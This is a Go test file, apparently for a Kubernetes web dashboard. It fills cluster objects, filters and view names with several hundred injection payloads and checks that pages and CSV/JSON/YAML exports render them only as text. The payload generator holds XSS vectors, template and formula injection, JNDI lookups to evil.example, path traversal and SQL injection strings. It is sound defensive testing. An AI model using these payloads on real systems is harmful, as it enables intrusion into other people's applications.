package handlers

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"

	"tiga/kube/kinds"
	"tiga/kube/kubetest"
)

// payloads are texts that would be markup, script, style or an address if anything let them. Each is valid UTF-8, as what
// comes from an API server is.
func payloads() []string {
	const run = "window.__pwned=1"
	var out []string
	add := func(texts ...string) { out = append(out, texts...) }
	// Elements that run something, or load something, by themselves.
	for _, tag := range []string{"script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "link", "style", "base", "meta", "form", "input", "button", "details", "marquee", "math", "template", "textarea", "title", "select", "table", "frameset", "noscript", "xmp", "plaintext", "portal", "dialog", "custom-element", "a", "div", "main", "nav"} {
		add(
			fmt.Sprintf("<%s>%s</%s>", tag, run, tag),
			fmt.Sprintf("<%s src=x href=x onerror=%s onload=%s autofocus onfocus=%s>", tag, run, run, run),
			fmt.Sprintf(`"><%s srcdoc="<script>%s</script>" data=//evil.example/x>`, tag, run),
			fmt.Sprintf("</%s><%s/x/ onmouseover=%s>", tag, strings.ToUpper(tag), run),
		)
	}
	// Attributes, out of each kind of quotes.
	for _, event := range []string{"onclick", "onerror", "onload", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onbeforetoggle", "onanimationstart", "ontransitionend", "onwheel", "onkeydown", "onsubmit", "oninput", "onpaste", "onmessage", "onhashchange", "onscrollend"} {
		add(
			fmt.Sprintf(`" %s="%s" x="`, event, run), fmt.Sprintf(`' %s='%s' x='`, event, run),
			fmt.Sprintf(` %s=%s `, event, run), fmt.Sprintf("\"\n%s\n=\n%s\n", event, run),
			fmt.Sprintf("`%s=%s", event, run),
		)
	}
	// Attributes that htmx, and the scripts of the page, would obey.
	for _, name := range []string{"hx-get", "hx-post", "hx-delete", "hx-on:click", "hx-on::load", "hx-vals", "hx-trigger", "hx-swap-oob", "hx-boost", "hx-ext", "hx-include", "hx-headers", "hx-sse:connect", "hx-target", "data-hx-get", "data-confirm", "data-copy", "data-row", "data-rows", "id", "class", "style", "srcset", "formaction", "nonce", "is", "slot", "autofocus", "popover", "tabindex"} {
		add(
			fmt.Sprintf(`" %s="//evil.example/%s" x="`, name, run), fmt.Sprintf(`'><b %s='js:%s'>`, name, run),
			fmt.Sprintf(`<div %s="https://evil.example">`, name),
		)
	}
	// Addresses.
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:", "view-source:", "file:///", "//evil.example/", `\\evil.example\`, "/\\evil.example/", "///evil.example/", "mailto:x?body=", "jar:https://", "intent://", "javascript&colon;", "javascript&#58;", "&#106;avascript:", "%6aavascript:"} {
		add(scheme+run, scheme+"//%0a"+run, scheme+`"><script>`+run+`</script>`, "url("+scheme+run+")")
	}
	// Languages of templates, ours and others'.
	for _, pair := range [][2]string{{"{{", "}}"}, {"{%", "%}"}, {"${", "}"}, {"#{", "}"}, {"<%=", "%>"}, {"[[", "]]"}, {"{!! ", " !!}"}, {"@(", ")"}, {"{{{", "}}}"}, {"*{", "}"}, {"{", "}"}, {"`", "`"}, {"<?php ", "?>"}, {"{{constructor.constructor('", "')()}}"}} {
		add(pair[0]+run+pair[1], pair[0]+"7*7"+pair[1], pair[0]+`.Password`+pair[1], `"`+pair[0]+run+pair[1]+`"`)
	}
	// What ends the thing that it stands in.
	for _, end := range []string{"</script>", "</ScRiPt >", "</script\t>", "</script/x>", "--></script>", "]]>", "<![CDATA[", "<!--", "-->", "--!>", "<!-->", "</textarea>", "</title>", "</style>", "</pre>", "</code>", "</td></tr></table>", "</select>", "</template>", "</svg>", "</math>", "</iframe>", "</noscript>", "</xmp>", "<!DOCTYPE html>", "<?xml version='1.0'?>", "'>", `">`, "`>", "'/>", `"/>`, "\\\"", "\\'", "\\u003c", "\\x3c", "\u2028", "\u2029"} {
		add(end+"<script>"+run+"</script>", end+"<svg onload="+run+">", end+";"+run+"//")
	}
	// Style.
	add("<style>@import '//evil.example/x.css'</style>", "x;background:url(//evil.example/x)", "expression("+run+")", "</style><style>*{display:none}", "}*{background:url(//evil.example)}", "\\3c script>", "behavior:url(//evil.example/x.htc)", "-moz-binding:url(//evil.example/x)", "color:red!important;position:fixed;inset:0", "@font-face{src:url(//evil.example/f)}")
	// Drawings and formulas, where the rules of parsing are others.
	for _, body := range []string{"<animate onbegin=X attributeName=x dur=1s>", "<set attributeName=href to=javascript:X>", "<use href=data:image/svg+xml,X>", "<foreignObject><img src=x onerror=X></foreignObject>", "<a xlink:href=javascript:X><text>x</text></a>", "<script href=//evil.example/x></script>", "<style><img src=x onerror=X></style>", "<desc><!--</desc><img src=x onerror=X>-->", "<image href=x onerror=X>", "<handler type=text/javascript>X</handler>"} {
		body = strings.ReplaceAll(body, "X", run)
		add("<svg>"+body+"</svg>", "<math>"+body+"</math>", "<svg><title>"+body, "<math><mtext><table><mglyph><style><!--</style>"+body)
	}
	// Entities, in all their spellings.
	for _, entity := range []string{"&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&#x00003c;script>", "&lt script&gt", "&LT;script&GT;", "&amp;lt;script&amp;gt;", "&quot; onload=", "&apos; onload=", "&#34; onload=", "&NewLine;&Tab;&colon;", "&nvlt;&fjlig;", "&#0;&#128;&#x110000;", "\\u003cscript\\u003e", "%3Cscript%3E", "%253Cscript%253E", "+ADw-script+AD4-", "＜script＞", "‹script›", "<scr\u00adipt>", "<\u200bscript>", "<ſcript>", "<K\u212ascript>"} {
		add(entity+run, `"`+entity+run+`"`)
	}
	// Characters that show nothing, or turn what is around them.
	for _, r := range []rune{0x01, 0x08, 0x0b, 0x0c, 0x0e, 0x1b, 0x7f, 0x85, 0xa0, 0xad, 0x200b, 0x200e, 0x200f, 0x202a, 0x202b, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2069, 0xfeff, 0xfff9, 0xfffd, 0xe0001, 0xe0041} {
		add("a"+string(r)+"b<i>"+run, string(r)+"txt.exe"+string(r)+`" onload=`+run)
	}
	// Quotes in quotes, and much of one thing.
	add(strings.Repeat(`"'`, 40)+"<script>", strings.Repeat("<", 200), strings.Repeat("<b>", 120), strings.Repeat("&", 200)+"lt;", strings.Repeat("](", 60), strings.Repeat("\\", 99)+`"<img src=x onerror=`+run+`>`,
		strings.Repeat("x", 3000)+"<script>"+run, strings.Repeat("<a href='", 200), "\n\n\n<script>\n"+run+"\n</script>\n", "\r\nSet-Cookie: a=b\r\n\r\n<script>"+run, "event: evil\ndata: <script>\n\n", "=HYPERLINK(\"//evil.example\")", "@SUM(1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1<script>", "../../../etc/passwd", "..%2f..%2f<x>", "' OR 1=1 --<x>", "${jndi:ldap://evil.example/x}", "https://evil.example/\"onclick="+run+" x=\"", "https://good.example@evil.example/", "[x](javascript:"+run+")", "![x](x\" onerror=\""+run+")", "<https://evil.example>")
	slices.Sort(out)
	return slices.Compact(out)
}

// calm is a text as long as a payload, with the same white space, that is nothing but a word. The number keeps two of one
// length apart.
func calm(n int, payload string) string {
	number := []rune(fmt.Sprintf("p%dp", n))
	var b strings.Builder
	i := 0
	for _, r := range payload {
		switch {
		case r == ' ' || r == '\n':
			b.WriteRune(r)
			continue
		case i < len(number):
			b.WriteRune(number[i])
		default:
			b.WriteByte('x')
		}
		i++
	}
	for ; i < len(number); i++ {
		b.WriteRune(number[i])
	}
	return b.String()
}

// texts gives one text after the other, for ever.
type texts struct {
	list []string
	at   int
}

func (t *texts) next() string {
	t.at++
	return t.list[t.at%len(t.list)]
}

// filled is an object of a kind every text of which is another of the texts, but for its namespace, its name, which
// begins with prefix, and its UID.
func filled(k *kinds.Kind, namespace, prefix string, from *texts) runtime.Object {
	if k.Dynamic() {
		return filledTree(k, namespace, prefix, from)
	}
	obj, err := kinds.Types().New(k.GVK())
	if err != nil {
		panic(err) // every kind that is not dynamic has a type
	}
	fill(reflect.ValueOf(obj).Elem(), from, nil)
	m, err := meta.Accessor(obj)
	if err != nil {
		panic(err) // as all of Kubernetes'
	}
	obj.GetObjectKind().SetGroupVersionKind(k.GVK())
	describe(m, k, namespace, prefix, from)
	return obj
}

func describe(m metav1.Object, k *kinds.Kind, namespace, prefix string, from *texts) {
	m.SetNamespace("")
	if k.Namespaced {
		m.SetNamespace(namespace)
	}
	m.SetName(prefix)
	m.SetUID(types.UID(prefix + "-" + k.ID()))
	m.SetResourceVersion("")
	m.SetGenerateName("")
	m.SetSelfLink("")
	m.SetManagedFields(nil)
	m.SetDeletionTimestamp(nil)
	m.SetDeletionGracePeriodSeconds(nil)
	m.SetCreationTimestamp(metav1.NewTime(time.Unix(1_700_000_000, 0)))
	m.SetLabels(map[string]string{from.next(): from.next(), "app": from.next()})
	m.SetAnnotations(map[string]string{from.next(): from.next(), from.next(): from.next()})
	m.SetFinalizers([]string{from.next()})
	m.SetOwnerReferences([]metav1.OwnerReference{{APIVersion: from.next(), Kind: from.next(), Name: from.next(), UID: types.UID(from.next())}})
}

// filledTree is filled for kinds without a Go type: the fields that their descriptors look at.
func filledTree(k *kinds.Kind, namespace, prefix string, from *texts) runtime.Object {
	s := from.next
	ref := func() map[string]any {
		return map[string]any{"group": s(), "kind": s(), "name": s(), "namespace": s(), "sectionName": s(), "port": int64(80)}
	}
	condition := map[string]any{"type": s(), "status": s(), "reason": s(), "message": s(), "lastTransitionTime": "2024-01-01T00:00:00Z"}
	u := kubetest.Custom(k.GVR.GroupVersion().String(), k.Name, namespace, prefix, map[string]any{
		"spec": map[string]any{
			"hostnames": []any{s(), s()}, "parentRefs": []any{ref()}, "gatewayClassName": s(), "controllerName": s(), "description": s(),
			"listeners": []any{map[string]any{"name": s(), "hostname": s(), "protocol": s(), "port": int64(80)}}, "addresses": []any{map[string]any{"type": s(), "value": s()}},
			"rules":     []any{map[string]any{"name": s(), "backendRefs": []any{ref()}, "matches": []any{map[string]any{"path": map[string]any{"type": s(), "value": s()}}}}},
			"targetRef": ref(), "updatePolicy": map[string]any{"updateMode": s()}, "from": []any{ref()}, "to": []any{ref()},
			"source": map[string]any{"persistentVolumeClaimName": s(), "volumeSnapshotContentName": s()}, "volumeSnapshotClassName": s(), "deletionPolicy": s(), "driver": s(),
			"text": s(), "list": []any{s(), s()}, "map": map[string]any{s(): s()},
		},
		"status": map[string]any{
			"phase": s(), "conditions": []any{condition}, "addresses": []any{map[string]any{"type": s(), "value": s()}}, "text": s(),
			"parents": []any{map[string]any{"parentRef": ref(), "controllerName": s(), "conditions": []any{condition}}}, "error": map[string]any{"message": s()},
		},
		"driver": s(), "deletionPolicy": s(), "text": s(),
	})
	describe(u, k, namespace, prefix, from)
	return u
}

// fill puts a text into every text of a value, and something into everything else. Types that hold themselves are
// followed once.
func fill(v reflect.Value, from *texts, inside []reflect.Type) {
	switch x := v.Addr().Interface().(type) {
	case *metav1.Time:
		*x = metav1.NewTime(time.Unix(1_700_000_000, 0))
		return
	case *metav1.MicroTime:
		*x = metav1.NewMicroTime(time.Unix(1_700_000_000, 0))
		return
	case *metav1.ObjectMeta:
		x.Labels, x.Annotations, x.Name = map[string]string{from.next(): from.next()}, map[string]string{from.next(): from.next()}, from.next()
		return
	case *metav1.TypeMeta:
		return
	case *resource.Quantity:
		*x = resource.MustParse("1")
		return
	case *intstr.IntOrString:
		*x = intstr.FromString(from.next())
		return
	case *runtime.RawExtension:
		x.Raw, _ = json.Marshal(map[string]string{from.next(): from.next()})
		return
	case *apiextensionsv1.JSON:
		x.Raw, _ = json.Marshal(from.next())
		return
	case *[]byte:
		*x = []byte(from.next())
		return
	}
	t := v.Type()
	switch v.Kind() {
	case reflect.String:
		v.SetString(from.next())
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64:
		v.SetInt(1)
	case reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64:
		v.SetUint(1)
	case reflect.Float32, reflect.Float64:
		v.SetFloat(1)
	case reflect.Pointer:
		if !slices.Contains(inside, t.Elem()) {
			v.Set(reflect.New(t.Elem()))
			fill(v.Elem(), from, inside)
		}
	case reflect.Slice:
		if !slices.Contains(inside, t.Elem()) {
			v.Set(reflect.MakeSlice(t, 1, 1))
			fill(v.Index(0), from, inside)
		}
	case reflect.Map:
		if !slices.Contains(inside, t.Elem()) {
			key, value := reflect.New(t.Key()).Elem(), reflect.New(t.Elem()).Elem()
			fill(key, from, inside)
			fill(value, from, inside)
			v.Set(reflect.MakeMap(t))
			v.SetMapIndex(key, value)
		}
	case reflect.Struct:
		inside = append(slices.Clone(inside), t)
		for i := range t.NumField() {
			if t.Field(i).IsExported() {
				fill(v.Field(i), from, inside)
			}
		}
	default: // no type of Kubernetes' has any other
	}
}

// shape is the elements of a page with the names of their attributes, each with how often it is there.
func shape(n *html.Node) map[string]int {
	out := map[string]int{}
	for d := range n.Descendants() {
		if d.Type == html.ElementNode {
			names := []string{}
			for _, a := range d.Attr {
				names = append(names, a.Key)
			}
			slices.Sort(names)
			out[d.Data+" "+strings.Join(names, " ")]++
		}
		if d.Type == html.CommentNode {
			out["comment"]++
		}
	}
	return out
}

// classesOf are the values of the attributes by which elements look like something.
func classesOf(n *html.Node) map[string]bool {
	out := map[string]bool{}
	for _, d := range elements(n, "", "class", "") {
		out[attribute(d, "class")] = true
	}
	return out
}

// definitions are those of the kinds that a cluster does not have of itself.
func definitions() []runtime.Object {
	var out []runtime.Object
	for _, k := range kinds.All() {
		if k.Install == "" {
			continue
		}
		scope := apiextensionsv1.ClusterScoped
		if k.Namespaced {
			scope = apiextensionsv1.NamespaceScoped
		}
		out = append(out, kubetest.Definition(k.GVR.Group, k.GVR.Resource, k.Name, scope, k.GVR.Version))
	}
	return out
}

// hostileKit is a kit whose production holds objects of every kind, filled with texts.
func hostileKit(t *testing.T, list []string, each int) *kit {
	t.Helper()
	k := newKit(t, kitConfig{})
	from := &texts{list: list}
	s := func() apiextensionsv1.CustomResourceColumnDefinition {
		return apiextensionsv1.CustomResourceColumnDefinition{Name: from.next(), Type: "string", Description: from.next(), JSONPath: ".spec.text"}
	}
	k.production.Add(definitions()...)
	k.production.Add(kubetest.Definition("odd.example.com", "oddities", "Oddity", apiextensionsv1.NamespaceScoped, "v1", s(), s()))
	for _, kind := range hostileKinds() {
		for i := range each {
			k.production.Add(filled(kind, "shop", fmt.Sprintf("victim-%02d", i), from))
		}
		// A name that no API server takes, from one that takes it.
		odd := filled(kind, "shop", "victim-odd", from)
		if m, err := meta.Accessor(odd); err == nil {
			m.SetName("victim-" + strings.NewReplacer("/", "|").Replace(from.next()))
		}
		k.production.Add(odd)
	}
	k.production.Add(custom("oddities", from))
	return k
}

func custom(name string, from *texts) runtime.Object {
	return kubetest.Custom("odd.example.com/v1", "Oddity", "shop", name, map[string]any{
		"spec":   map[string]any{"text": from.next()},
		"status": map[string]any{"conditions": []any{map[string]any{"type": from.next(), "status": from.next(), "reason": from.next(), "message": from.next()}}},
	})
}

// hostileKinds are the kinds whose objects are filled: all but definitions, which would define something.
func hostileKinds() []*kinds.Kind {
	return slices.DeleteFunc(slices.Clone(kinds.All()), func(k *kinds.Kind) bool { return k.ID() == "customresourcedefinitions.apiextensions.k8s.io" })
}

func TestA21_NoElementAndNoAttributeComesFromData(t *testing.T) {
	t.Parallel()
	hostile := payloads()
	if len(hostile) < 500 {
		t.Fatalf("%d payloads", len(hostile))
	}
	harmless := make([]string, len(hostile))
	for i, p := range hostile {
		if !utf8.ValidString(p) {
			t.Fatalf("%q", p)
		}
		harmless[i] = calm(i, p)
	}
	if n := len(hostileKinds()); n < 30 {
		t.Fatalf("%d kinds", n)
	}
	const each = 2
	a, b := hostileKit(t, hostile, each), hostileKit(t, harmless, each)
	va, vb := a.as(admin), b.as(admin)
	seen := map[string]bool{}                            // payloads that stood on a page
	known, looks := map[string]bool{}, map[string]bool{} // classes
	pages := 0
	compare := func(path string) {
		t.Helper()
		var x, y *reply
		// A page may have less than with harmless text: a selector that is none chooses nothing, a value that cannot stand in a
		// filter leads nowhere. It has nothing more, but for lines, which are spans, and break where quotes are needed. How
		// clusters are and what is counted changes between two pages, for a while; what data made is there for good.
		extra := ""
		again := time.NewTicker(50 * time.Millisecond)
		defer again.Stop()
		for tries := 0; ; tries++ {
			x, y = va.get(path), vb.get(path)
			if extra = surplus(path, x, y); extra == "" || tries == 100 {
				break
			}
			<-again.C
		}
		if extra != "" {
			t.Errorf("%s: %s", path, extra)
			return
		}
		if x.status == http.StatusOK {
			pages++
		}
		doc := x.doc()
		maps.Copy(known, classesOf(y.doc()))
		maps.Copy(looks, classesOf(doc))
		local(t, path, doc)
		text := html.UnescapeString(x.body)
		for _, p := range hostile {
			if !seen[p] && strings.Contains(text, visible(p)) {
				seen[p] = true
			}
		}
	}
	var ids []string
	for _, kind := range hostileKinds() {
		ids = append(ids, kind.ID())
	}
	a.warm(ids...)
	b.warm(ids...)
	// Every page says how the clusters are, so both have to know it before they are compared.
	eventually(t, "the clusters' health is known, and alike", func() bool {
		for _, id := range []int64{a.productionID, a.stagingID} {
			x, err := a.fleet.Cluster(id)
			a.must(err)
			y, err := b.fleet.Cluster(id)
			b.must(err)
			if x.State().Checked.IsZero() || x.State().Health != y.State().Health || x.State().Reason.IsZero() != y.State().Reason.IsZero() {
				x.Retry() // the check may have come before the objects
				y.Retry()
				return false
			}
		}
		return true
	})
	for n, kind := range append(hostileKinds(), nil) {
		id, plain := "oddities.odd.example.com", "oddities"
		if kind != nil {
			id, plain = kind.ID(), "victim-00"
		}
		path := clusterPath(a.productionID) + "/" + id
		for _, v := range []*visitor{va, vb} {
			eventually(t, id+" are read", func() bool {
				r := v.get(path)
				return r.status == http.StatusOK && strings.Contains(r.body, plain)
			})
		}
		compare(path)
		compare(path + "?cols=status&cols=age&cols=label:app&density=compact")
		namespace := "shop"
		if kind != nil {
			for _, facet := range kind.Facets {
				compare(path + "/facet?of=" + facet)
			}
			if !kind.Namespaced {
				namespace = "-"
			}
		}
		for i := range each {
			if kind == nil && i > 0 {
				break
			}
			name := plain
			if kind != nil {
				name = fmt.Sprintf("victim-%02d", i)
			}
			for _, tab := range []string{"", "/yaml", "/events", "/pods", "/describe"} {
				if i > 0 && tab != "" && tab != "/yaml" || tab == "/describe" && n%3 > 0 {
					continue // one is like the other, and kubectl's own is the slowest
				}
				compare(path + "/" + namespace + "/" + name + tab)
			}
		}
	}
	for _, path := range []string{"/", clusterPath(a.productionID), "/audit", "/account"} {
		compare(path)
	}
	maps.DeleteFunc(looks, func(class string, _ bool) bool { return known[class] })
	if len(looks) > 0 {
		t.Errorf("elements look like %v, which none does with harmless text", slices.Sorted(maps.Keys(looks)))
	}
	if pages < 30*8 {
		t.Errorf("only %d pages were compared", pages)
	}
	for _, p := range hostile {
		if !seen[p] {
			t.Errorf("%q stood on no page", p)
		}
	}
	t.Logf("%d payloads in objects of %d kinds, %d pages", len(hostile), len(hostileKinds())+1, pages)
}

// surplus is what a page has more than its like with harmless text.
func surplus(path string, x, y *reply) string {
	if x.status != y.status || x.status == http.StatusInternalServerError {
		return fmt.Sprintf("%d, and %d with harmless text: %.300s", x.status, y.status, x.text())
	}
	want := shape(y.doc())
	for name, n := range shape(x.doc()) {
		lines := name == "span class" && (strings.HasSuffix(path, "/yaml") || strings.HasSuffix(path, "/pods") || strings.HasSuffix(path, "/describe") || strings.Contains(path, columnLabel))
		if n > want[name] && !lines {
			return fmt.Sprintf("%d times <%s>, with harmless text %d%s", n, name, want[name], looksOf(x, y))
		}
	}
	return ""
}

// looksOf are the classes that a page has more often than its like.
func looksOf(x, y *reply) (out string) {
	count := func(r *reply) map[string]int {
		n := map[string]int{}
		for _, e := range elements(r.doc(), "", "class", "") {
			n[e.Data+"."+attribute(e, "class")]++
		}
		return n
	}
	have, want := count(x), count(y)
	for _, class := range slices.Sorted(maps.Keys(have)) {
		if have[class] > want[class] {
			out += fmt.Sprintf(", %d instead of %d %s", have[class], want[class], class)
		}
	}
	return out
}

// visible is how a payload reads on a page.
func visible(p string) string {
	var b strings.Builder
	for _, r := range p {
		if r < ' ' && r != '\n' && r != '\t' || r >= 0x7f && r < 0xa0 || r == 0xad || unicode.Is(unicode.Cf, r) && r != 0x200d {
			fmt.Fprintf(&b, "\\u%04x", r)
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

// local fails the test if an address on the page leads away, but for the links that a person follows knowingly.
func local(t *testing.T, path string, n *html.Node) {
	t.Helper()
	for d := range n.Descendants() {
		for _, a := range d.Attr {
			switch a.Key {
			case "href", "src", "action", "formaction", "hx-get", "hx-post", "hx-sse:connect", "srcset", "data", "poster", "ping":
				if strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") && !strings.HasPrefix(a.Val, `/\`) || strings.HasPrefix(a.Val, "#") || strings.HasPrefix(a.Val, "?") || a.Val == "" {
					continue
				}
				if a.Key == "href" && d.Data == "a" && strings.HasPrefix(a.Val, "https://") && strings.Contains(attribute(d, "rel"), "noopener") && strings.Contains(attribute(d, "rel"), "noreferrer") {
					continue
				}
				t.Errorf("%s: <%s %s=%q>", path, d.Data, a.Key, a.Val)
			}
		}
	}
}

// TestA21_WhatPeopleTypeIsTextToo puts payloads where Tiga's own texts come from: filters, addresses, names of views.
func TestA21_WhatPeopleTypeIsTextToo(t *testing.T) {
	t.Parallel()
	k := newKit(t, kitConfig{})
	k.warm("pods", "nodes", "deployments.apps", "namespaces", "events")
	k.healthy(k.productionID)
	k.healthy(k.stagingID)
	v, pods := k.as(viewer), clusterPath(k.productionID)+"/pods"
	hostile := payloads()
	calmed := func(i int, format string) (string, string) {
		return fmt.Sprintf(format, url.QueryEscape(hostile[i])), fmt.Sprintf(format, url.QueryEscape(calm(i, hostile[i])))
	}
	for i := 0; i < len(hostile); i += 9 {
		for _, format := range []string{"?f.status=%s", "?ns=%s&ns=shop", "?sort=%s", "?cols=%s", "/facet?of=node&f.node=%s", "?page=1&%s=x"} {
			x, y := calmed(i, format)
			a, b := v.get(pods+x), v.get(pods+y)
			if diff := cmp.Diff(shape(b.doc()), shape(a.doc())); diff != "" || a.status != b.status {
				t.Errorf("%s: %d, %d (-harmless +hostile):\n%s", x, a.status, b.status, diff)
			}
			local(t, x, a.doc())
		}
		if len(hostile[i]) > 1000 {
			continue
		}
		// The filter understands some of them, and says so of others; either way they are text.
		page := v.get(pods + "?q=" + url.QueryEscape(hostile[i])).want(http.StatusOK).doc()
		if box := elements(page, "input", "name", "q"); len(box) == 0 || attribute(box[0], "value") != strings.NewReplacer("\r", "", "\n", "").Replace(hostile[i]) && attribute(box[0], "value") != hostile[i] {
			t.Errorf("the filter of %q is not in its box", hostile[i])
		}
		templatesOnly(t, hostile[i], page)
		local(t, hostile[i], page)
	}
	// Names of views, on the list and in the menu.
	n := 0
	for i, p := range hostile {
		name := strings.TrimSpace(p)
		if len(name) > 60 || i%7 != 0 || n == 20 {
			continue
		}
		r := v.post(pods+"/views", url.Values{"name": {name}, "query": {"q=" + url.QueryEscape(p)}, "pinned": {"1"}})
		if r.status == http.StatusSeeOther {
			n++
		}
	}
	page := v.get(pods).want(http.StatusOK)
	if n < 10 {
		t.Errorf("only %d views were saved", n)
	}
	templatesOnly(t, "views", page.doc())
	local(t, "views", page.doc())
}

// templatesOnly fails the test if a page has something that Tiga's own templates never write.
func templatesOnly(t *testing.T, path string, n *html.Node) {
	t.Helper()
	for d := range n.Descendants() {
		if d.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{"iframe", "object", "embed", "img", "base", "style", "math", "template", "marquee", "portal"}, d.Data) ||
			d.Data == "script" && !strings.HasPrefix(attribute(d, "src"), "/static/") {
			t.Errorf("%s: <%s>", path, d.Data)
		}
		for _, a := range d.Attr {
			if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(a.Key, "hx-on") || a.Key == "style" || a.Key == "srcdoc" || a.Key == "nonce" {
				t.Errorf("%s: <%s %s=%q>", path, d.Data, a.Key, a.Val)
			}
		}
	}
}

// TestA21_FilesAreFiles exports lists and manifests of hostile objects.
func TestA21_FilesAreFiles(t *testing.T) {
	t.Parallel()
	hostile := payloads()
	k := hostileKit(t, hostile, 1)
	for i, p := range hostile {
		pod := testPod("shop", fmt.Sprintf("file-%03d", i))
		pod.Labels = map[string]string{"app": p}
		pod.Spec.NodeName = p
		k.production.Add(pod)
	}
	k.warm("pods")
	v := k.as(admin)
	pods := clusterPath(k.productionID) + "/pods"
	table := v.get(pods + "?as=csv&cols=label:app&cols=node&q=file-").want(http.StatusOK)
	if got := table.header.Get("Content-Type"); got != "text/csv; charset=utf-8" || table.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("the CSV is of type %s", got)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(table.body, "\ufeff"))).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a spreadsheet would run %q", cell)
			}
		}
	}
	var list []map[string]any
	k.must(json.Unmarshal([]byte(v.get(pods+"?as=json&cols=label:app&q=file-").want(http.StatusOK).body), &list))
	got := map[string]bool{}
	for _, row := range list {
		got[fmt.Sprint(row["label:app"])] = true
	}
	for _, p := range hostile {
		if !got[p] {
			t.Errorf("%q is not in the JSON", p)
		}
	}
	for _, kind := range []string{"pods", "configmaps", "nodes"} {
		namespace := "shop"
		if kind == "nodes" {
			namespace = "-"
		}
		r := v.get(fmt.Sprintf("%s/%s/%s/victim-00/yaml?download=1", clusterPath(k.productionID), kind, namespace)).want(http.StatusOK)
		disposition := r.header.Get("Content-Disposition")
		if r.header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(r.header.Get("Content-Type"), "application/yaml") || disposition != "attachment; filename=victim-00.yaml" {
			t.Errorf("%s: %v", kind, r.header)
		}
	}
	// The names of files hold what every file system takes.
	for _, p := range hostile {
		if name := attachment(p + ".csv"); strings.ContainsAny(strings.TrimPrefix(name, "attachment; filename"), "<>/\\\r\n\x00\u202e") || !strings.HasPrefix(name, "attachment; filename") {
			t.Errorf("%q becomes the header %q", p, name)
		}
	}
	// The API's answers are no page, whoever opens them.
	for _, path := range []string{k.resources("pods") + "/victim-00?namespace=shop", k.resources("pods"), k.resources("pods") + "?as=table"} {
		r := v.get(path).want(http.StatusOK)
		if !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(r.header.Get("Content-Security-Policy"), "default-src") {
			t.Errorf("%s: %v", path, r.header)
		}
	}
	if r := v.get(k.resources("pods") + "/victim-00?namespace=shop"); !strings.Contains(r.body, `"kind":"Pod"`) {
		t.Errorf("the pod is %.300s", r.body)
	}
}
